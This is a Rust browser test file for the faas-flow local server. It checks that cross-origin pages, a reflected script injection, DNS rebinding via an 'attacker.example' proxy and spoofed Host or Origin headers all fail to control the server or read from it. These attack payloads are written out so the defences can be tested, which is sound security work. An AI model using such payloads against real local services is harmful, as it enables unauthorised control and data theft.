//! What pages of others can do in the browser of somebody who runs a local server: attacks, played in Chromium.

mod scene;

use axum::Router;
use axum::response::Html;
use axum::routing::get;
use faas_flow_core::Digest;
use faas_flow_e2e::browser::Browser;
use faas_flow_e2e::command::faas_flow;
use faas_flow_e2e::server::{Serve, Server};
use faas_flow_e2e::wait::until;
use faas_flow_test_support::{double, modules};
use reqwest::{Method, Response};
use scene::{Effects, PAGE, Scene, TOOLS};
use serde_json::Value;
use std::fs;
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use tempfile::TempDir;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _, copy_bidirectional};
use tokio::net::{TcpListener, TcpStream};

#[tokio::test(flavor = "multi_thread")]
async fn a_page_of_another_origin_changes_nothing_and_reads_nothing() {
    let scene = Scene::new().await;
    let server = scene.server.url("");
    let browser = Browser::open(scene.folder.path()).await;
    let chain = format!("{server}/function/async-chain");
    let attacks = [
        format!("return image('{chain}?pause-flow=waits')"),
        format!("return image('{chain}/flow/waits/pause')"),
        format!("return style('{chain}?pause-flow=waits')"),
        format!("return frame('{chain}?pause-flow=waits')"),
        format!("return form('get', '{chain}/flow/waits/pause')"),
        format!("return form('post', '{chain}/flow/waits/pause')"),
        format!("return send('POST', '{chain}/flow/waits/pause')"),
        format!("return send('POST', '{chain}?pause-flow=waits')"),
        format!("return image('{chain}?begun-by=image')"),
        format!("return send('POST', '{chain}', 'begun by fetch')"),
        format!("return send('POST', '{server}/async-function/async-chain', 'begun by the queue')"),
        format!("return form('post', '{chain}')"),
        format!("return image('{server}/function/count')"),
        format!("return send('HEAD', '{server}/function/count')"),
        format!("return send('POST', '{server}/function/count')"),
        format!("return send('POST', '{server}/async-function/count')"),
        format!("return form('post', '{server}/function/count')"),
        format!("return link('{chain}')"),
        format!("return link('{server}/function/count')"),
        format!("return link('{server}/async-function/count')"),
    ];
    let mut done = Vec::new();
    // Another site, and another port of the same one.
    for origin in ["attacker.localhost", "127.0.0.1"].map(|host| format!("http://{host}:{}/", scene.site)) {
        for attack in &attacks {
            browser.go(&origin).await;
            let before = scene.effects().await;
            browser.script(&format!("{TOOLS}{attack}")).await;
            if attack.starts_with("return link") {
                // The next command to the browser waits until the page is loaded.
                browser.click("a").await;
                browser.script("").await;
            }
            let after = scene.effects().await;
            if after != before {
                done.push(format!("{origin}: {attack}: {before:?} -> {after:?}"));
                let resume = scene.server.post("/function/async-chain/flow/waits/resume", "").await;
                assert!(matches!(resume.status, 200 | 409), "{resume:?}");
            }
        }
        for path in ["/dashboard/", "/dashboard/runs/waits", "/function/async-chain/flow/waits/result", "/_/metrics"] {
            browser.go(&origin).await;
            let read = format!(
                "{TOOLS}return read('{server}{path}').then(async text => {{
                    await frame('{server}{path}');
                    const inner = document.querySelector('iframe').contentDocument;
                    return text ?? inner?.body.textContent ?? null;
                }})"
            );
            let read = browser.script(&read).await;
            if !read.is_null() {
                done.push(format!("{origin}: read {path}: {read}"));
            }
        }
    }
    assert_eq!(done, Vec::<String>::new(), "{} attacks succeeded", done.len());
}

#[tokio::test(flavor = "multi_thread")]
async fn what_functions_answer_is_no_page_with_the_rights_of_the_server() {
    let scene = Scene::new().await;
    let browser = Browser::open(scene.folder.path()).await;
    let mut done = Vec::new();
    // The text comes back from a function that answers with its input.
    let echoed = scene.server.url("/function/fake-storage");
    let steals = "const asks = new XMLHttpRequest(); asks.open('GET', '/dashboard/', false); asks.send(); \
                  document.title = `read ${asks.responseText.length}`;";
    browser.go(&format!("http://attacker.localhost:{}/", scene.site)).await;
    let name = format!("<script>{steals}</script><!--");
    browser
        .script(&format!(
            "{TOOLS}const sent = with_('form', {{ method: 'post', action: '{echoed}', enctype: 'text/plain' }});
             sent.append(with_('input', {{ name: {}, value: '-->' }}));
             document.body.append(sent);
             sent.submit()",
            serde_json::to_string(&name).unwrap().replace("</", "<\\/")
        ))
        .await;
    scene.until_shown(&browser, "/function/fake-storage").await;
    let title = browser.script("return document.title").await;
    if title.as_str().unwrap().starts_with("read ") {
        done.push(format!("the echo: {title}"));
    }
    // Pages that functions answer with, however the browser comes to open them.
    for path in ["/function/html", "/function/page"] {
        browser.go(&format!("http://attacker.localhost:{}/", scene.site)).await;
        browser.go(&scene.server.url(path)).await;
        let title = browser.script("return document.title").await;
        if title == "executed" {
            done.push(format!("{path}: {title}"));
        }
        let answer = scene.server.client.get(scene.server.url(path)).send().await.unwrap();
        assert!(answer.text().await.unwrap().contains("<p>shown</p>"), "programs get all of it");
    }
    assert_eq!(done, Vec::<String>::new());
}

/// Serves an attacker's page, and hands what comes later to the server: as if a name had got another address.
async fn rebinding(server: &Server) -> (u16, Arc<AtomicBool>) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let rebound = Arc::new(AtomicBool::new(false));
    let (address, leads_there) = (server.address.clone(), rebound.clone());
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            let (address, leads_there) = (address.clone(), leads_there.clone());
            tokio::spawn(async move {
                // Browsers open connections before they need them.
                let _ = stream.peek(&mut [0]).await;
                if leads_there.load(Ordering::Relaxed) {
                    let mut target = TcpStream::connect(address).await.unwrap();
                    let _ = copy_bidirectional(&mut stream, &mut target).await;
                } else if stream.read(&mut [0; 4096]).await.is_ok_and(|read| read > 0) {
                    let page =
                        "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n\r\nan attacker's page";
                    let _ = stream.write_all(page.as_bytes()).await;
                }
            });
        }
    });
    (port, rebound)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_name_that_is_rebound_to_the_server_opens_nothing() {
    let scene = Scene::new().await;
    let (port, rebound) = rebinding(&scene.server).await;
    let rule = format!("--host-resolver-rules=MAP attacker.example:80 127.0.0.1:{port}");
    let browser = Browser::open_with(scene.folder.path(), &[&rule]).await;
    browser.go("http://attacker.example/").await;
    assert_eq!(browser.script("return document.body.textContent").await, "an attacker's page");
    rebound.store(true, Ordering::Relaxed);
    let module = fs::read(modules::module("greet")).unwrap();
    let digest = Digest::of(&module);
    // A module for a flow that has another one.
    let attack = format!(
        "return (async () => {{
            const ask = (method, path, body) => fetch(path, {{ method, body }}).then(answer => answer.status, String);
            const module = await (await fetch('http://attacker.localhost:{}/module')).arrayBuffer();
            const versions = '/function/async-chain/modules';
            return {{
                dashboard: await ask('GET', '/dashboard/'),
                result: await ask('GET', '/function/async-chain/flow/waits/result'),
                begin: await ask('POST', '/function/async-chain', 'hi'),
                push: await ask('PUT', `${{versions}}/{digest}`, module),
                activate: await ask('POST', `${{versions}}/{digest}/activate`),
                stop: await ask('POST', '/function/async-chain/flow/waits/stop'),
            }};
        }})()",
        scene.site
    );
    let answers = browser.script(&attack).await;
    let answers = answers.as_object().unwrap();
    // A module that is refused before it was sent may end the connection, which the browser reports as a failure.
    let refused = |name: &str, status: &Value| *status == 421 || (name == "push" && status.is_string());
    let succeeded: Vec<_> = answers.iter().filter(|(name, status)| !refused(name, status)).collect();
    assert!(succeeded.is_empty(), "{succeeded:?}");
    let versions = scene.server.get("/function/async-chain/modules").await.ok();
    assert!(!versions.contains(&digest.to_string()), "{versions}");
    assert_eq!(scene.effects().await, Effects { waiting_run: "running".to_owned(), runs: 1, calls: 0 });
}

#[tokio::test(flavor = "multi_thread")]
async fn own_pages_links_to_them_and_listed_origins_work() {
    let scene = Scene::new().await;
    let browser = Browser::open(scene.folder.path()).await;
    let title = "return document.title";
    browser.go(&scene.server.url("/dashboard/")).await;
    assert_eq!(browser.script(title).await, "Flows · faas-flow");
    // The other name of this machine is another origin, and an own one.
    let port = scene.server.address.rsplit(':').next().unwrap();
    browser.go(&format!("http://localhost:{port}/dashboard/runs/waits")).await;
    assert_eq!(browser.script(title).await, "waits · faas-flow");
    let own = "return fetch('/function/count', { method: 'POST', body: 'hi' }).then(answer => answer.text())";
    assert_eq!(browser.script(own).await, "counted");
    // A link of another site leads to a page, which that site cannot look into.
    browser.go(&format!("http://attacker.localhost:{}/", scene.site)).await;
    let opened = format!("window.opened = window.open('{}')", scene.server.url("/dashboard/"));
    browser.script(&opened).await;
    until("the page is cut off from its opener", async || browser.script("return window.opened.closed").await == true)
        .await;
    browser.script(&format!("location.href = '{}'", scene.server.url("/dashboard/runs/waits"))).await;
    scene.until_shown(&browser, "/dashboard/runs/waits").await;
    assert_eq!(browser.script(title).await, "waits · faas-flow");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_page_of_a_wanted_origin_starts_runs_and_reads_their_results() {
    let folder = TempDir::new().unwrap();
    let page = Router::new().route("/", get(async || Html("<!doctype html><body>a page")));
    let site = double::serve(page).await;
    let port = site.rsplit(':').next().unwrap();
    let wanted = format!("http://app.localhost:{port}");
    let server = Serve::flows(&["async-chain"]).function("func1", "echo").function("func2", "echo");
    let server = server.function("fake-storage", "echo").with("--cors-origin", &wanted).start_in(folder.path());
    let chain = server.url("/function/async-chain");
    let browser = Browser::open(folder.path()).await;
    // The headers need the server's consent, which the browser asks for with a preflight.
    let starts = format!(
        "return fetch('{chain}', {{ method: 'POST', body: 'hi', headers: {{ 'X-Faas-Flow-Wait': '60s', 'X-Own': '1' }} }}).then(
            async answer => [await answer.text(), answer.headers.get('x-faas-flow-state')]).catch(error => String(error))"
    );
    browser.go(&format!("{wanted}/")).await;
    assert_eq!(browser.script(&starts).await, serde_json::json!(["you said \"hi\"", "succeeded"]));
    let follows = format!(
        "return fetch('{chain}', {{ method: 'POST', body: 'hi' }})
            .then(answer => fetch(new URL(answer.headers.get('location'), answer.url), {{ headers: {{ 'X-Faas-Flow-Wait': '60s' }} }}))
            .then(answer => answer.text()).catch(error => String(error))"
    );
    assert_eq!(browser.script(&follows).await, "you said \"hi\"");
    let reads = |path: &str| {
        format!("return fetch('{}').then(answer => answer.text()).catch(() => 'nothing')", server.url(path))
    };
    // What such a page may not do, and what it may not read.
    assert_eq!(browser.script(&reads("/dashboard/")).await, "nothing");
    let said = browser.script(&reads("/function/async-chain/modules")).await;
    assert!(said.as_str().unwrap().starts_with("FF0515"), "{said}");

    browser.go(&format!("http://other.localhost:{port}/")).await;
    let failed = browser.script(&starts).await;
    assert!(failed.as_str().unwrap().contains("Failed to fetch"), "{failed}");
    assert_eq!(browser.script(&reads("/function/async-chain?export-dag=true")).await, "nothing");
}

#[tokio::test]
async fn scripts_of_other_origins_need_the_consent_of_a_key() {
    let preflight = [
        ("Access-Control-Request-Method", "POST"),
        ("Access-Control-Request-Headers", "x-faas-flow-wait"),
        ("Origin", "https://app.example"),
    ];
    let consents = async |server: &Server, method: Method, path: &str, headers: &[(&str, &str)]| {
        let (status, _, answer) = ask(server, method, path, headers).await;
        let header = |name| answer.headers().get(name).map(|value| value.to_str().unwrap().to_owned());
        (status, header("access-control-allow-origin"), header("access-control-allow-headers"))
    };
    let wanted = Some("https://app.example".to_owned());
    let asked = Some("x-faas-flow-wait".to_owned());

    let server = Serve::flows(&["greet"]).with("--cors-origin", "https://app.example").function("echo", "echo").start();
    for path in ["/function/greet", "/function/echo", "/async-function/greet", "/function/greet/flow/r/result"] {
        assert_eq!(
            consents(&server, Method::OPTIONS, path, &preflight).await,
            (200, wanted.clone(), asked.clone()),
            "{path}"
        );
    }
    let other = [("Origin", "https://attacker.example"), ("Access-Control-Request-Method", "POST")];
    assert_eq!(consents(&server, Method::OPTIONS, "/function/greet", &other).await, (403, None, None));
    assert_eq!(consents(&server, Method::POST, "/function/greet", &preflight[2..]).await, (200, wanted.clone(), None));
    // A failure can be read too.
    assert_eq!(consents(&server, Method::POST, "/function/none", &preflight[2..]).await, (404, wanted, None));
    // A function answers what is no preflight.
    let (status, _, answer) = ask(&server, Method::OPTIONS, "/function/echo", &preflight[2..]).await;
    assert_eq!((status, answer.text().await.unwrap().as_str()), (200, "hi"));

    let none = Serve::flows(&["greet"]).with("--allowed-origin", "https://app.example").start();
    assert_eq!(consents(&none, Method::OPTIONS, "/function/greet", &preflight).await, (405, None, None));
    assert_eq!(consents(&none, Method::POST, "/function/greet", &preflight[2..]).await, (200, None, None));
    let any = Serve::flows(&["greet"]).with("--cors-origin", "*").start();
    any.until_logged("cors_origins is `*`").await;
    assert_eq!(consents(&any, Method::POST, "/function/greet", &preflight[2..]).await, (403, None, None));
}

/// A request to a server, as a browser would send it for a page.
async fn ask(server: &Server, method: Method, path: &str, headers: &[(&str, &str)]) -> (u16, Option<String>, Response) {
    let request = server.client.request(method, server.url(path)).body("hi");
    let request = headers.iter().fold(request, |request, (name, value)| request.header(*name, *value));
    let response = request.send().await.unwrap();
    let code = response.headers().get("x-faas-flow-error").map(|code| code.to_str().unwrap().to_owned());
    (response.status().as_u16(), code, response)
}

#[tokio::test]
async fn hosts_and_origins_are_allowed_by_name() {
    let server = Serve::flows(&["greet"]).with("--allowed-host", "flows.example");
    let server = server.with("--allowed-origin", "https://app.example").start();
    let greet = "/function/greet";
    let status = async |method, path, headers: &[(&str, &str)]| {
        let (status, code, _) = ask(&server, method, path, headers).await;
        (status, code)
    };
    let refused = |status, code: &str| (status, Some(code.to_owned()));
    assert_eq!(status(Method::POST, greet, &[("Host", "flows.example")]).await, (200, None));
    assert_eq!(status(Method::POST, greet, &[("Host", "attacker.example")]).await, refused(421, "FF0514"));
    let listed = [("Origin", "https://app.example"), ("Sec-Fetch-Site", "cross-site")];
    assert_eq!(status(Method::POST, greet, &listed).await, (200, None));
    for path in ["/function/greet/flow/r/stop", "/function/greet/modules/rollback", "/function/greet/modules/gc"] {
        assert_eq!(status(Method::POST, path, &listed).await, refused(403, "FF0515"), "{path}");
    }
    for path in ["/dashboard/", "/dashboard/flows/greet", "/function/greet/modules"] {
        assert_eq!(status(Method::GET, path, &listed).await, refused(403, "FF0515"), "{path}");
    }
    let other = [("Origin", "https://attacker.example")];
    let (_, _, answer) = ask(&server, Method::POST, greet, &other).await;
    assert_eq!(answer.status(), 403);
    let said = answer.text().await.unwrap();
    assert!(said.contains("https://attacker.example") && said.contains("cors_origins"), "{said}");
    let (_, _, answer) =
        ask(&server, Method::GET, "/", &[("Host", "attacker.example:80"), ("Accept", "application/json")]).await;
    let said = answer.text().await.unwrap();
    assert!(said.starts_with('{') && said.contains("--allowed-host attacker.example:80"), "{said}");
}

#[tokio::test]
async fn runs_are_controlled_by_get_only_where_a_token_protects_that() {
    let scene = Scene::new().await;
    let chain = "/function/async-chain";
    for path in ["?pause-flow=waits", "?stop-flow=waits", "?resume-flow=waits", "/flow/waits/pause", "/flow/waits/stop"]
    {
        let (status, code, answer) = ask(&scene.server, Method::GET, &format!("{chain}{path}"), &[]).await;
        assert_eq!((status, code.as_deref()), (405, Some("FF0509")), "{path}");
        assert_eq!(answer.headers()["allow"], "POST", "{path}");
    }
    assert_eq!(scene.effects().await.waiting_run, "running");
    scene.server.post(&format!("{chain}?pause-flow=waits"), "").await.ok();

    let folder = TempDir::new().unwrap();
    let token = "a token of more than sixteen";
    fs::create_dir(folder.path().join("secrets")).unwrap();
    fs::write(folder.path().join("secrets/faasflow-admin-token"), token).unwrap();
    let server = Serve::flows(&["greet"]).with("--secrets", "secrets").start_in(folder.path());
    server.send(server.request("/function/greet", "hi").header("X-Faas-Flow-Reqid", "r")).await.ok();
    let by_get = server.client.get(server.url("/function/greet?stop-flow=r"));
    server.send(by_get.try_clone().unwrap()).await.failed(401, "FF0506");
    server.send(by_get.bearer_auth(token)).await.failed(409, "FF0222");
}

#[tokio::test]
async fn every_answer_says_what_it_is_and_is_no_page_of_the_server() {
    let scene = Scene::new().await;
    let server = &scene.server;
    server.send(server.request("/function/greet", PAGE).header("X-Faas-Flow-Reqid", "r")).await.ok();
    for (method, path, kind) in [
        (Method::GET, "/function/greet/flow/r/result", "application/octet-stream"),
        (Method::GET, "/function/greet/flow/r/state", "text/plain; charset=utf-8"),
        (Method::GET, "/function/page", "application/octet-stream"),
        (Method::GET, "/function/html", "text/html"),
        (Method::GET, "/function/%3Cscript%3E", "text/plain; charset=utf-8"),
        (Method::GET, "/nowhere/%3Cscript%3E", "text/plain; charset=utf-8"),
        (Method::GET, "/", "text/plain; charset=utf-8"),
        (Method::GET, "/_/openapi.json", "application/json"),
    ] {
        let (_, _, answer) = ask(server, method, path, &[]).await;
        let header = |name: &str| answer.headers().get(name).map(|value| value.to_str().unwrap());
        assert_eq!(header("content-type"), Some(kind), "{path}");
        assert_eq!(header("x-content-type-options"), Some("nosniff"), "{path}");
        assert_eq!(header("cross-origin-resource-policy"), Some("same-origin"), "{path}");
        assert!(header("content-security-policy").is_some_and(|policy| policy.ends_with("; sandbox")), "{path}");
    }
    for path in ["/dashboard/", "/dashboard/nowhere", "/dashboard/style.css"] {
        let (_, _, answer) = ask(server, Method::GET, path, &[]).await;
        let header = |name: &str| answer.headers()[name].to_str().unwrap().to_owned();
        assert!(header("content-security-policy").contains("frame-ancestors 'none'"), "{path}");
        assert_eq!(header("cross-origin-opener-policy"), "same-origin", "{path}");
        assert_eq!(header("cross-origin-resource-policy"), "same-origin", "{path}");
        assert_eq!(header("referrer-policy"), "same-origin", "{path}");
        assert_eq!(header("x-content-type-options"), "nosniff", "{path}");
    }
}

/// `faas-flow dashboard` at a loopback address, with the store of a folder.
fn dashboard(folder: &Path) -> Server {
    let mut command = faas_flow(folder);
    command.args([
        "dashboard",
        "--listen",
        "127.0.0.1:0",
        "--state-store",
        "sqlite:state.db",
        "--data-store",
        "files:data",
    ]);
    Server::start(command)
}

#[tokio::test]
async fn a_dashboard_and_a_function_check_hosts_if_only_their_machine_reaches_them() {
    let folder = TempDir::new().unwrap();
    let dashboard = dashboard(folder.path());
    let function = Serve::replica("greet").with("--state-store", "memory").start();
    for (server, path) in [(&dashboard, "/"), (&function, "/flow/r/state"), (&function, "/_/metrics")] {
        for headers in [[("Host", "attacker.example")], [("Origin", "http://attacker.example")]] {
            let (status, code, _) = ask(server, Method::GET, path, &headers).await;
            assert!(
                matches!((status, code.as_deref()), (421, Some("FF0514")) | (403, Some("FF0515"))),
                "{path}: {status}"
            );
        }
    }
    // Others reach this one, so it answers to any name that its gateway uses.
    let folder = TempDir::new().unwrap();
    fs::create_dir(folder.path().join("secrets")).unwrap();
    fs::write(folder.path().join("secrets/faasflow-hmac-secret"), "the secret of these tests").unwrap();
    let open = Serve::replica("greet").with("--state-store", "memory").with("--secrets", "secrets");
    let open = open.with("--listen", "0.0.0.0:0").start_in(folder.path());
    let headers =
        [("Host", "greet.openfaas-fn.svc"), ("Origin", "https://shop.example"), ("Sec-Fetch-Site", "cross-site")];
    let (status, _, answer) = ask(&open, Method::POST, "/", &headers).await;
    assert_eq!(status, 200);
    assert!(answer.headers().get("cross-origin-resource-policy").is_none(), "pages of others may embed it");
    assert_eq!(answer.headers()["x-content-type-options"], "nosniff");
}
